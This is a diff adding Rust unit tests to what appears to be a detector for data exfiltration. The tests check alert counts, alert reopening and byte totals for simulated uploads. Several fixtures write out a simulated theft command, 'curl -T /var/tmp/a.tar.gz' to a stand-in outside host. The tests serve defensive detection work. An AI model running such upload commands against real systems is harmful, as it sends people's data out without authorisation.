@@ -232,6 +232,72 @@ fn an_alert_closes_when_its_story_is_quiet_and_a_late_one_is_new() {
 }
 
 #[test]
+fn a_transfer_that_passes_a_size_on_its_way_proves_nothing() {
+    for (bytes, expected) in [(12_050_000, 1), (100_000_000, 0)] {
+        let mut scene = Scene::new();
+        scene.spawn(10, 100, "/usr/bin/python3", &["python3", "up.py"]);
+        read_documents(&mut scene, 100);
+        scene.send(100, 7, OUTSIDE, bytes, 500_000);
+        scene.stop();
+        assert_eq!(ids(&alerts(&scene)).len(), expected, "{bytes}");
+    }
+}
+
+#[test]
+fn a_second_theft_of_the_same_data_is_told_at_once() {
+    let mut scene = Scene::new();
+    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    scene.spawn(10, 300, "/opt/other", &["other"]);
+    scene.read(300, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
+    scene.send(300, 9, OUTSIDE, 12_050_000, 500_000);
+    scene.stop();
+    let lines = alerts(&scene);
+    assert_eq!(ids(&lines).len(), 1);
+    assert!(lines.iter().any(|line| line.action == Action::Updated && line.process.key.pid == 300));
+    let last = lines.last().unwrap();
+    assert_eq!(last.bytes_out, 24_100_000);
+    assert!(chain(last).contains(&"other".to_owned()) && chain(last).contains(&"curl".to_owned()));
+}
+
+#[test]
+fn a_closed_alert_opens_again_only_on_news() {
+    for (bytes, expected) in [(3_000, 1), (12_050_000, 2)] {
+        let mut scene = Scene::new();
+        archive_and_send(
+            &mut scene,
+            "/usr/bin/curl",
+            &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE],
+            12_050_000,
+        );
+        scene.wait(900);
+        scene.tick();
+        scene.spawn(100, 103, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE]);
+        scene.read(103, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
+        scene.send(103, 9, OUTSIDE, bytes, 500_000);
+        scene.stop();
+        assert_eq!(ids(&alerts(&scene)).len(), expected, "{bytes}");
+    }
+}
+
+#[test]
+fn a_socket_that_is_used_again_after_its_close_counts_once() {
+    let mut scene = Scene::new();
+    scene.spawn(10, 100, "/usr/bin/client", &["client"]);
+    scene.connect(100, 7, OUTSIDE);
+    scene.close(7);
+    scene.connect(100, 7, OUTSIDE);
+    scene.send(100, 7, OUTSIDE, 1_000_000, 500_000);
+    scene.wait(60);
+    scene.tick();
+    scene.snapshot(100, 7, OUTSIDE, 1_500_000);
+    let mut pipeline = Pipeline::new(Config::default());
+    for event in &scene.events {
+        pipeline.step(event, &mut Vec::new());
+    }
+    assert_eq!(pipeline.totals().bytes_out, 1_500_000);
+}
+
+#[test]
 fn the_numbers_in_an_alert_recompute_its_score() {
     let mut scene = Scene::new();
     archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
